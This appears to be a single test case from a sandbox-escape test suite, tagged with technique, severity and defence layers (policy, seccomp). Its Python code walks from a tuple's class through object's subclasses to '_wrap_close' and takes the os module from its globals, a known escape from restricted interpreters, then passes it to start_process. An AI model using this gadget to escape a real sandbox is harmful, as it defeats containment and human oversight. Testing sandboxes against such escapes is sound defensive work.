# technique: walk from a tuple to a class whose module holds os
# family: A
# severity: H
# layers: policy, seccomp
def trick():
    for c in ().__class__.__base__.__subclasses__():
        if c.__name__ == "_wrap_close":
            return c.__init__.__globals__["sys"].modules["os"]
    raise LookupError("no such class")

start_process(trick)
